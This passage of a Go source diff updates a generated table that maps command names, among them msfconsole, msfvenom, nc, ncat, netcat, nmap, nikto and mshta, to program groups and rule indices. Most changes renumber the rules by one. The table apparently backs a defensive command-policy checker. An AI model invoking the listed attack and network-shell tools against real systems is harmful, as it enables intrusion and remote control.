+				Rules:   []uint16{419},
 			},
 			nameEntry{
 				Name:    "most",
@@ -15642,7 +15658,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mount",
 				Program: 65,
-				Rules:   []uint16{427, 450, 451},
+				Rules:   []uint16{428, 451, 452},
 			},
 			nameEntry{
 				Name:    "mrsk",
@@ -15655,42 +15671,42 @@ var shipped = Set{
 			nameEntry{
 				Name:    "msbuild.exe",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "msfconsole",
 				Program: -1,
-				Rules:   []uint16{55, 429},
+				Rules:   []uint16{56, 430},
 			},
 			nameEntry{
 				Name:    "msfvenom",
 				Program: -1,
-				Rules:   []uint16{55},
+				Rules:   []uint16{56},
 			},
 			nameEntry{
 				Name:    "mshta",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "mshta.exe",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "msiexec",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "msiexec.exe",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "msmtp",
 				Program: -1,
-				Rules:   []uint16{366},
+				Rules:   []uint16{367},
 			},
 			nameEntry{
 				Name:    "mssql-cli",
@@ -15703,32 +15719,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "multipass",
 				Program: 62,
-				Rules:   []uint16{242},
+				Rules:   []uint16{243},
 			},
 			nameEntry{
 				Name:    "multipath",
 				Program: -1,
-				Rules:   []uint16{298},
+				Rules:   []uint16{299},
 			},
 			nameEntry{
 				Name:    "mutt",
 				Program: -1,
-				Rules:   []uint16{366, 380},
+				Rules:   []uint16{367, 381},
 			},
 			nameEntry{
 				Name:    "mv",
 				Program: 19,
-				Rules:   []uint16{285},
+				Rules:   []uint16{286},
 			},
 			nameEntry{
 				Name:    "mvn",
 				Program: 34,
-				Rules:   []uint16{131, 375},
+				Rules:   []uint16{132, 376},
 			},
 			nameEntry{
 				Name:    "mvnw",
 				Program: 34,
-				Rules:   []uint16{131, 375},
+				Rules:   []uint16{132, 376},
 			},
 			nameEntry{
 				Name:    "mycli",
@@ -15741,7 +15757,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "myisamchk",
 				Program: -1,
-				Rules:   []uint16{142},
+				Rules:   []uint16{143},
 			},
 			nameEntry{
 				Name:    "mypy",
@@ -15750,27 +15766,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mysql",
 				Program: 59,
-				Rules:   []uint16{146, 352},
+				Rules:   []uint16{147, 353},
 			},
 			nameEntry{
 				Name:    "mysql_install_db",
 				Program: -1,
-				Rules:   []uint16{143},
+				Rules:   []uint16{144},
 			},
 			nameEntry{
 				Name:    "mysqladmin",
 				Program: 59,
-				Rules:   []uint16{107, 134, 142},
+				Rules:   []uint16{108, 135, 143},
 			},
 			nameEntry{
 				Name:    "mysqld",
 				Program: -1,
-				Rules:   []uint16{110},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "mysqld_safe",
 				Program: -1,
-				Rules:   []uint16{110},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "mysqldump",
@@ -15779,7 +15795,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mysqlimport",
 				Program: 60,
-				Rules:   []uint16{117},
+				Rules:   []uint16{118},
 			},
 			nameEntry{
 				Name:    "n",
@@ -15796,7 +15812,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nats",
 				Program: -1,
-				Rules:   []uint16{116, 134},
+				Rules:   []uint16{117, 135},
 			},
 			nameEntry{
 				Name:    "nawk",
@@ -15805,27 +15821,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nbtscan",
 				Program: -1,
-				Rules:   []uint16{429},
+				Rules:   []uint16{430},
 			},
 			nameEntry{
 				Name:    "nc",
 				Program: 56,
-				Rules:   []uint16{149, 352, 357, 382},
+				Rules:   []uint16{150, 353, 358, 383},
 			},
 			nameEntry{
 				Name:    "nc.openbsd",
 				Program: -1,
-				Rules:   []uint16{357},
+				Rules:   []uint16{358},
 			},
 			nameEntry{
 				Name:    "nc.traditional",
 				Program: -1,
-				Rules:   []uint16{357},
+				Rules:   []uint16{358},
 			},
 			nameEntry{
 				Name:    "ncat",
 				Program: 56,
-				Rules:   []uint16{149, 352, 357, 382},
+				Rules:   []uint16{150, 353, 358, 383},
 			},
 			nameEntry{
 				Name:    "ncdu",
@@ -15834,12 +15850,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ncftp",
 				Program: 57,
-				Rules:   []uint16{380},
+				Rules:   []uint16{381},
 			},
 			nameEntry{
 				Name:    "ncftpput",
 				Program: -1,
-				Rules:   []uint16{380, 381},
+				Rules:   []uint16{381, 382},
 			},
 			nameEntry{
 				Name:    "neato",
@@ -15848,7 +15864,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nebius",
 				Program: -1,
-				Rules:   []uint16{177},
+				Rules:   []uint16{178},
 			},
 			nameEntry{
 				Name:    "neo4j",
@@ -15857,12 +15873,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "neo4j-admin",
 				Program: -1,
-				Rules:   []uint16{117, 134},
+				Rules:   []uint16{118, 135},
 			},
 			nameEntry{
 				Name:    "neo4j-client",
 				Program: -1,
-				Rules:   []uint16{144},
+				Rules:   []uint16{145},
 			},
 			nameEntry{
 				Name:    "neofetch",
@@ -15871,52 +15887,52 @@ var shipped = Set{
 			nameEntry{
 				Name:    "neon",
 				Program: 62,
-				Rules:   []uint16{25, 26, 42, 184, 200, 201, 205},
+				Rules:   []uint16{25, 26, 43, 185, 201, 202, 206},
 			},
 			nameEntry{
 				Name:    "neonctl",
 				Program: 62,
-				Rules:   []uint16{25, 26, 42, 184, 200, 201, 205, 256},
+				Rules:   []uint16{25, 26, 43, 185, 201, 202, 206, 257},
 			},
 			nameEntry{
 				Name:    "nerdctl",
 				Program: 63,
-				Rules:   []uint16{51, 58, 232, 233, 234, 236, 237, 238, 239, 240, 241, 248, 377},
+				Rules:   []uint16{52, 59, 233, 234, 235, 237, 238, 239, 240, 241, 242, 249, 378},
 			},
 			nameEntry{
 				Name:    "net",
 				Program: 65,
-				Rules:   []uint16{409, 416, 461},
+				Rules:   []uint16{410, 417, 462},
 			},
 			nameEntry{
 				Name:    "net.exe",
 				Program: -1,
-				Rules:   []uint16{461},
+				Rules:   []uint16{462},
 			},
 			nameEntry{
 				Name:    "netcat",
 				Program: 56,
-				Rules:   []uint16{149, 357},
+				Rules:   []uint16{150, 358},
 			},
 			nameEntry{
 				Name:    "netexec",
 				Program: -1,
-				Rules:   []uint16{55},
+				Rules:   []uint16{56},
 			},
 			nameEntry{
 				Name:    "netlify",
 				Program: 62,
-				Rules:   []uint16{25, 26, 41, 42, 52, 159, 184, 200, 203},
+				Rules:   []uint16{25, 26, 42, 43, 53, 160, 185, 201, 204},
 			},
 			nameEntry{
 				Name:    "netlify-cli",
 				Program: -1,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "netsh",
 				Program: -1,
-				Rules:   []uint16{424, 461},
+				Rules:   []uint16{425, 462},
 			},
 			nameEntry{
 				Name:    "netstat",
@@ -15925,12 +15941,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "networksetup",
 				Program: 56,
-				Rules:   []uint16{426, 464},
+				Rules:   []uint16{427, 465},
 			},
 			nameEntry{
 				Name:    "newgrp",
 				Program: -1,
-				Rules:   []uint16{409},
+				Rules:   []uint16{410},
 			},
 			nameEntry{
 				Name:    "newrelic",
@@ -15939,7 +15955,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "newusers",
 				Program: -1,
-				Rules:   []uint16{409},
+				Rules:   []uint16{410},
 			},
 			nameEntry{
 				Name:    "next",
@@ -15948,7 +15964,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nft",
 				Program: 65,
-				Rules:   []uint16{424},
+				Rules:   []uint16{425},
 			},
 			nameEntry{
 				Name:    "ng",
@@ -15961,17 +15977,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ngrok",
 				Program: 46,
-				Rules:   []uint16{184, 208, 367},
+				Rules:   []uint16{185, 209, 368},
 			},
 			nameEntry{
 				Name:    "nhost",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "ni",
 				Program: 40,
-				Rules:   []uint16{124},
+				Rules:   []uint16{125},
 			},
 			nameEntry{
 				Name:    "nice",
@@ -15984,7 +16000,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nikto",
 				Program: -1,
-				Rules:   []uint16{429},
+				Rules:   []uint16{430},
 			},
 			nameEntry{
 				Name:    "nim",
@@ -16001,12 +16017,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nitric",
 				Program: -1,
-				Rules:   []uint16{157},
+				Rules:   []uint16{158},
 			},
 			nameEntry{
 				Name:    "nix",
 				Program: 33,
-				Rules:   []uint16{386},
+				Rules:   []uint16{387},
 			},
 			nameEntry{
 				Name:    "nix-build",
@@ -16023,12 +16039,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nix-env",
 				Program: 45,
-				Rules:   []uint16{468},
+				Rules:   []uint16{469},
 			},
 			nameEntry{
 				Name:    "nix-shell",
 				Program: 33,
-				Rules:   []uint16{386},
+				Rules:   []uint16{387},
 			},
 			nameEntry{
 				Name:    "nixos-rebuild",
@@ -16045,22 +16061,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nmap",
 				Program: 56,
-				Rules:   []uint16{429},
+				Rules:   []uint16{430},
 			},
 			nameEntry{
 				Name:    "nmcli",
 				Program: 56,
-				Rules:   []uint16{426},
+				Rules:   []uint16{427},
 			},
 			nameEntry{
 				Name:    "node",
 				Program: 46,
-				Rules:   []uint16{391, 392},
+				Rules:   []uint16{392, 393},
 			},
 			nameEntry{
 				Name:    "node-pg-migrate",
 				Program: 49,
-				Rules:   []uint16{127, 128, 130},
+				Rules:   []uint16{128, 129, 131},
 			},
 			nameEntry{
 				Name:    "nodejs",
@@ -16077,7 +16093,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nodetool",
 				Program: -1,
-				Rules:   []uint16{134},
+				Rules:   []uint16{135},
 			},
 			nameEntry{
 				Name:    "nohup",
@@ -16086,17 +16102,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nomad",
 				Program: 62,
-				Rules:   []uint16{24, 242, 246},
+				Rules:   []uint16{24, 243, 247},
 			},
 			nameEntry{
 				Name:    "nopaste",
 				Program: -1,
-				Rules:   []uint16{366},
+				Rules:   []uint16{367},
 			},
 			nameEntry{
 				Name:    "northflank",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "nose2",
@@ -16114,7 +16130,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nova",
 				Program: 62,
-				Rules:   []uint16{177},
+				Rules:   []uint16{178},
 			},
 			nameEntry{
 				Name:    "now",
@@ -16127,12 +16143,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "np",
 				Program: -1,
-				Rules:   []uint16{375},
+				Rules:   []uint16{376},
 			},
 			nameEntry{
 				Name:    "npm",
 				Program: 39,
-				Rules:   []uint16{25, 26, 43, 52, 124, 125, 202, 375, 376, 386, 387, 396},
+				Rules:   []uint16{25, 26, 44, 53, 125, 126, 203, 376, 377, 387, 388, 397},
 			},
 			nameEntry{
 				Name:    "npm-run-all",
@@ -16145,37 +16161,37 @@ var shipped = Set{
 			nameEntry{
 				Name:    "npx",
 				Program: 41,
-				Rules:   []uint16{375, 383, 386, 390},
+				Rules:   []uint16{376, 384, 387, 391},
 			},
 			nameEntry{
 				Name:    "nr",
 				Program: 40,
-				Rules:   []uint16{124, 125},
+				Rules:   []uint16{125, 126},
 			},
 			nameEntry{
 				Name:    "nsenter",
 				Program: 63,
-				Rules:   []uint16{449},
+				Rules:   []uint16{450},
 			},
 			nameEntry{
 				Name:    "nslookup",
 				Program: 56,
-				Rules:   []uint16{360},
+				Rules:   []uint16{361},
 			},
 			nameEntry{
 				Name:    "ntl",
 				Program: 62,
-				Rules:   []uint16{41, 42, 184, 200, 203},
+				Rules:   []uint16{42, 43, 185, 201, 204},
 			},
 			nameEntry{
 				Name:    "ntpdate",
 				Program: -1,
-				Rules:   []uint16{453},
+				Rules:   []uint16{454},
 			},
 			nameEntry{
 				Name:    "nuget",
 				Program: 35,
-				Rules:   []uint16{375, 376},
+				Rules:   []uint16{376, 377},
 			},
 			nameEntry{
 				Name:    "numfmt",
@@ -16200,22 +16216,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "nvme",
 				Program: 65,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name:    "nvram",
 				Program: -1,
-				Rules:   []uint16{452},
+				Rules:   []uint16{453},
 			},
 			nameEntry{
 				Name:    "nwipe",
 				Program: -1,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name:    "nx",
 				Program: 33,
-				Rules:   []uint16{124, 375},
+				Rules:   []uint16{125, 376},
 			},
 			nameEntry{
 				Name:    "nyc",
@@ -16228,7 +16244,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "oc",
 				Program: 62,
-				Rules:   []uint16{25, 26, 27, 32, 51, 52, 178, 219, 220, 221, 222, 223, 224, 225, 226, 227, 228, 229, 230},
+				Rules:   []uint16{25, 26, 27, 32, 52, 53, 179, 220, 221, 222, 223, 224, 225, 226, 227, 228, 229, 230, 231},
 			},
 			nameEntry{
 				Name:    "ocamlc",
@@ -16241,12 +16257,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "oci",
 				Program: 62,
-				Rules:   []uint16{177, 256},
+				Rules:   []uint16{178, 257},
 			},
 			nameEntry{
 				Name:    "ocm",
 				Program: -1,
-				Rules:   []uint16{247},
+				Rules:   []uint16{248},
 			},
 			nameEntry{
 				Name:    "octave",
@@ -16255,12 +16271,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "octo",
 				Program: -1,
-				Rules:   []uint16{191},
+				Rules:   []uint16{192},
 			},
 			nameEntry{
 				Name:    "octopus",
 				Program: -1,
-				Rules:   []uint16{191},
+				Rules:   []uint16{192},
 			},
 			nameEntry{
 				Name:    "od",
@@ -16269,17 +16285,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "oha",
 				Program: -1,
-				Rules:   []uint16{76},
+				Rules:   []uint16{77},
 			},
 			nameEntry{
 				Name:    "okta",
 				Program: 62,
-				Rules:   []uint16{189},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "okteto",
 				Program: -1,
-				Rules:   []uint16{157, 231},
+				Rules:   []uint16{158, 232},
 			},
 			nameEntry{
 				Name:    "ollama",
@@ -16288,7 +16304,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "op",
 				Program: 62,
-				Rules:   []uint16{25, 26, 33, 52, 57, 246},
+				Rules:   []uint16{25, 26, 33, 53, 58, 247},
 			},
 			nameEntry{
 				Name:    "opam",
@@ -16305,22 +16321,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "opencode",
 				Program: 67,
-				Rules:   []uint16{469, 471},
+				Rules:   []uint16{470, 472},
 			},
 			nameEntry{
 				Name:    "openhands",
 				Program: 67,
-				Rules:   []uint16{469},
+				Rules:   []uint16{470},
 			},
 			nameEntry{
 				Name:    "openssl",
 				Program: 56,
-				Rules:   []uint16{34, 44},
+				Rules:   []uint16{34, 45},
 			},
 			nameEntry{
 				Name:    "openstack",
 				Program: 62,
-				Rules:   []uint16{177, 205, 256},
+				Rules:   []uint16{178, 206, 257},
 			},
 			nameEntry{
 				Name:    "openvpn",
@@ -16333,12 +16349,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "oras",
 				Program: 63,
-				Rules:   []uint16{51, 377, 378},
+				Rules:   []uint16{52, 378, 379},
 			},
 			nameEntry{
 				Name:    "orb",
 				Program: 62,
-				Rules:   []uint16{242},
+				Rules:   []uint16{243},
 			},
 			nameEntry{
 				Name:    "ormolu",
@@ -16347,12 +16363,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ory",
 				Program: -1,
-				Rules:   []uint16{189},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "osascript",
 				Program: 48,
-				Rules:   []uint16{431, 432, 433, 434, 435, 436, 437, 467},
+				Rules:   []uint16{432, 433, 434, 435, 436, 437, 438, 468},
 			},
 			nameEntry{
 				Name:    "otool",
@@ -16361,17 +16377,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "overmind",
 				Program: 46,
-				Rules:   []uint16{460},
+				Rules:   []uint16{461},
 			},
 			nameEntry{
 				Name:    "ovhai",
 				Program: 62,
-				Rules:   []uint16{177},
+				Rules:   []uint16{178},
 			},
 			nameEntry{
 				Name:    "ovsx",
 				Program: -1,
-				Rules:   []uint16{375},
+				Rules:   []uint16{376},
 			},
 			nameEntry{
 				Name:    "oxlint",
@@ -16380,7 +16396,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "p4",
 				Program: -1,
-				Rules:   []uint16{341, 342},
+				Rules:   []uint16{342, 343},
 			},
 			nameEntry{
 				Name:    "pa11y",
@@ -16393,12 +16409,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "packet",
 				Program: -1,
-				Rules:   []uint16{177},
+				Rules:   []uint16{178},
 			},
 			nameEntry{
 				Name:    "pacman",
 				Program: 45,
-				Rules:   []uint16{444, 468},
+				Rules:   []uint16{445, 469},
 			},
 			nameEntry{
 				Name:    "pagerduty",
@@ -16419,7 +16435,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "parallel-ssh",
 				Program: -1,
-				Rules:   []uint16{161},
+				Rules:   []uint16{162},
 			},
 			nameEntry{
 				Name:    "parcel",
@@ -16428,7 +16444,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "parted",
 				Program: 65,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name:    "paru",
@@ -16437,12 +16453,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pass",
 				Program: 62,
-				Rules:   []uint16{33, 57, 246},
+				Rules:   []uint16{33, 58, 247},
 			},
 			nameEntry{
 				Name:    "passwd",
 				Program: 65,
-				Rules:   []uint16{409},
+				Rules:   []uint16{410},
 			},
 			nameEntry{
 				Name:    "paste",
@@ -16451,7 +16467,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pastebinit",
 				Program: -1,
-				Rules:   []uint16{366, 380},
+				Rules:   []uint16{367, 381},
 			},
 			nameEntry{
 				Name:    "patch",
@@ -16464,12 +16480,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "payload",
 				Program: 49,
-				Rules:   []uint16{130},
+				Rules:   []uint16{131},
 			},
 			nameEntry{
 				Name:    "paypal",
 				Program: -1,
-				Rules:   []uint16{89},
+				Rules:   []uint16{90},
 			},
 			nameEntry{
 				Name:    "pbcopy",
@@ -16478,12 +16494,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pbpaste",
 				Program: 65,
-				Rules:   []uint16{369},
+				Rules:   []uint16{370},
 			},
 			nameEntry{
 				Name:    "pct",
 				Program: -1,
-				Rules:   []uint16{242},
+				Rules:   []uint16{243},
 			},
 			nameEntry{
 				Name:    "pdfgrep",
@@ -16504,12 +16520,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pdm",
 				Program: 43,
-				Rules:   []uint16{124, 375},
+				Rules:   []uint16{125, 376},
 			},
 			nameEntry{
 				Name:    "pdsh",
 				Program: -1,
-				Rules:   []uint16{161, 162},
+				Rules:   []uint16{162, 163},
 			},
 			nameEntry{
 				Name:    "pear",
@@ -16526,7 +16542,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "perl",
 				Program: 47,
-				Rules:   []uint16{391, 392},
+				Rules:   []uint16{392, 393},
 			},
 			nameEntry{
 				Name:    "pest",
@@ -16535,12 +16551,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pfctl",
 				Program: 65,
-				Rules:   []uint16{422},
+				Rules:   []uint16{423},
 			},
 			nameEntry{
 				Name:    "pg_archivecleanup",
 				Program: -1,
-				Rules:   []uint16{143},
+				Rules:   []uint16{144},
 			},
 			nameEntry{
 				Name:    "pg_basebackup",
@@ -16553,17 +16569,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pg_ctl",
 				Program: 59,
-				Rules:   []uint16{142, 416},
+				Rules:   []uint16{143, 417},
 			},
 			nameEntry{
 				Name:    "pg_ctlcluster",
 				Program: -1,
-				Rules:   []uint16{142},
+				Rules:   []uint16{143},
 			},
 			nameEntry{
 				Name:    "pg_dropcluster",
 				Program: 60,
-				Rules:   []uint16{107, 134, 135},
+				Rules:   []uint16{108, 135, 136},
 			},
 			nameEntry{
 				Name:    "pg_dump",
@@ -16584,27 +16600,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pg_resetwal",
 				Program: -1,
-				Rules:   []uint16{142, 143},
+				Rules:   []uint16{143, 144},
 			},
 			nameEntry{
 				Name:    "pg_resetxlog",
 				Program: -1,
-				Rules:   []uint16{142, 143},
+				Rules:   []uint16{143, 144},
 			},
 			nameEntry{
 				Name:    "pg_restore",
 				Program: 60,
-				Rules:   []uint16{117, 352},
+				Rules:   []uint16{118, 353},
 			},
 			nameEntry{
 				Name:    "pg_upgrade",
 				Program: 60,
-				Rules:   []uint16{117},
+				Rules:   []uint16{118},
 			},
 			nameEntry{
 				Name:    "pgbackrest",
 				Program: 66,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "pgbench",
@@ -16634,12 +16650,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "phinx",
 				Program: 49,
-				Rules:   []uint16{127, 128},
+				Rules:   []uint16{128, 129},
 			},
 			nameEntry{
 				Name:    "php",
 				Program: 46,
-				Rules:   []uint16{127, 128, 131, 383, 391, 392},
+				Rules:   []uint16{128, 129, 132, 384, 392, 393},
 			},
 			nameEntry{
 				Name:    "php-cs-fixer",
@@ -16684,7 +16700,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ping",
 				Program: 56,
-				Rules:   []uint16{360},
+				Rules:   []uint16{361},
 			},
 			nameEntry{
 				Name:    "ping6",
@@ -16693,7 +16709,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pinggy",
 				Program: -1,
-				Rules:   []uint16{366},
+				Rules:   []uint16{367},
 			},
 			nameEntry{
 				Name:    "pint",
@@ -16702,7 +16718,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pip",
 				Program: 42,
-				Rules:   []uint16{386, 387, 396},
+				Rules:   []uint16{387, 388, 397},
 			},
 			nameEntry{
 				Name:    "pip2",
@@ -16711,7 +16727,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pip3",
 				Program: 42,
-				Rules:   []uint16{386, 387, 396},
+				Rules:   []uint16{387, 388, 397},
 			},
 			nameEntry{
 				Name:    "pipenv",
@@ -16720,7 +16736,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pipx",
 				Program: 41,
-				Rules:   []uint16{386, 390},
+				Rules:   []uint16{387, 391},
 			},
 			nameEntry{
 				Name:    "pixi",
@@ -16729,12 +16745,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pkexec",
 				Program: 65,
-				Rules:   []uint16{449},
+				Rules:   []uint16{450},
 			},
 			nameEntry{
 				Name:    "pkg",
 				Program: 45,
-				Rules:   []uint16{444, 468},
+				Rules:   []uint16{445, 469},
 			},
 			nameEntry{
 				Name:    "pkg_add",
@@ -16743,17 +16759,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pkill",
 				Program: 64,
-				Rules:   []uint16{413, 415, 416, 419, 477, 479},
+				Rules:   []uint16{414, 416, 417, 420, 478, 480},
 			},
 			nameEntry{
 				Name:    "plandex",
 				Program: 67,
-				Rules:   []uint16{469},
+				Rules:   []uint16{470},
 			},
 			nameEntry{
 				Name:    "planetscale",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "plantuml",
@@ -16762,7 +16778,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "platform",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "playwright",
@@ -16775,7 +16791,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "plink",
 				Program: -1,
-				Rules:   []uint16{368},
+				Rules:   []uint16{369},
 			},
 			nameEntry{
 				Name:    "plocate",
@@ -16788,12 +16804,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pm2",
 				Program: 46,
-				Rules:   []uint16{24, 403, 439, 460},
+				Rules:   []uint16{24, 404, 440, 461},
 			},
 			nameEntry{
 				Name:    "pm2-kill",
 				Program: -1,
-				Rules:   []uint16{459},
+				Rules:   []uint16{460},
 			},
 			nameEntry{
 				Name:    "pmap",
@@ -16802,7 +16818,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pmset",
 				Program: 65,
-				Rules:   []uint16{420},
+				Rules:   []uint16{421},
 			},
 			nameEntry{
 				Name:    "pngquant",
@@ -16811,37 +16827,37 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pnpm",
 				Program: 40,
-				Rules:   []uint16{43, 120, 121, 122, 123, 124, 125, 127, 128, 131, 158, 186, 187, 202, 375, 376, 386, 387, 396},
+				Rules:   []uint16{44, 121, 122, 123, 124, 125, 126, 128, 129, 132, 159, 187, 188, 203, 376, 377, 387, 388, 397},
 			},
 			nameEntry{
 				Name:    "pnpx",
 				Program: 41,
-				Rules:   []uint16{390},
+				Rules:   []uint16{391},
 			},
 			nameEntry{
 				Name:    "pod",
 				Program: 45,
-				Rules:   []uint16{375, 376},
+				Rules:   []uint16{376, 377},
 			},
 			nameEntry{
 				Name:    "podman",
 				Program: 63,
-				Rules:   []uint16{51, 52, 58, 232, 233, 234, 236, 237, 238, 239, 240, 241, 248, 377},
+				Rules:   []uint16{52, 53, 59, 233, 234, 235, 237, 238, 239, 240, 241, 242, 249, 378},
 			},
 			nameEntry{
 				Name:    "podman-compose",
 				Program: 63,
-				Rules:   []uint16{234, 235},
+				Rules:   []uint16{235, 236},
 			},
 			nameEntry{
 				Name:    "poe",
 				Program: 46,
-				Rules:   []uint16{124},
+				Rules:   []uint16{125},
 			},
 			nameEntry{
 				Name:    "poetry",
 				Program: 43,
-				Rules:   []uint16{375, 387, 396},
+				Rules:   []uint16{376, 388, 397},
 			},
 			nameEntry{
 				Name: "popd",
@@ -16849,12 +16865,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "port",
 				Program: 45,
-				Rules:   []uint16{468},
+				Rules:   []uint16{469},
 			},
 			nameEntry{
 				Name:    "porter",
 				Program: 62,
-				Rules:   []uint16{184, 247},
+				Rules:   []uint16{185, 248},
 			},
 			nameEntry{
 				Name:    "postcss",
@@ -16863,17 +16879,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "poweroff",
 				Program: 65,
-				Rules:   []uint16{420, 421},
+				Rules:   []uint16{421, 422},
 			},
 			nameEntry{
 				Name:    "powershell",
 				Program: 4,
-				Rules:   []uint16{395},
+				Rules:   []uint16{396},
 			},
 			nameEntry{
 				Name:    "powershell.exe",
 				Program: -1,
-				Rules:   []uint16{395},
+				Rules:   []uint16{396},
 			},
 			nameEntry{
 				Name:    "pr",
@@ -16886,7 +16902,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "prefect",
 				Program: 46,
-				Rules:   []uint16{141},
+				Rules:   []uint16{142},
 			},
 			nameEntry{
 				Name:    "prefect-cloud",
@@ -16914,17 +16930,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "prisma",
 				Program: 49,
-				Rules:   []uint16{120, 121, 122},
+				Rules:   []uint16{121, 122, 123},
 			},
 			nameEntry{
 				Name:    "prlctl",
 				Program: 62,
-				Rules:   []uint16{242},
+				Rules:   []uint16{243},
 			},
 			nameEntry{
 				Name:    "profiles",
 				Program: -1,
-				Rules:   []uint16{411, 467},
+				Rules:   []uint16{412, 468},
 			},
 			nameEntry{
 				Name:    "promptfoo",
@@ -16933,7 +16949,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "promtool",
 				Program: -1,
-				Rules:   []uint16{145},
+				Rules:   []uint16{146},
 			},
 			nameEntry{
 				Name:    "protoc",
@@ -16942,7 +16958,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "protonpass",
 				Program: -1,
-				Rules:   []uint16{57},
+				Rules:   []uint16{58},
 			},
 			nameEntry{
 				Name:    "prove",
@@ -16951,17 +16967,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "proxmox",
 				Program: -1,
-				Rules:   []uint16{242},
+				Rules:   []uint16{243},
 			},
 			nameEntry{
 				Name:    "proxmox-backup-client",
 				Program: -1,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "ps",
 				Program: 64,
-				Rules:   []uint16{59},
+				Rules:   []uint16{60},
 			},
 			nameEntry{
 				Name:    "psalm",
@@ -16970,22 +16986,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pscale",
 				Program: 62,
-				Rules:   []uint16{25, 26, 42, 184, 200, 201, 256},
+				Rules:   []uint16{25, 26, 43, 185, 201, 202, 257},
 			},
 			nameEntry{
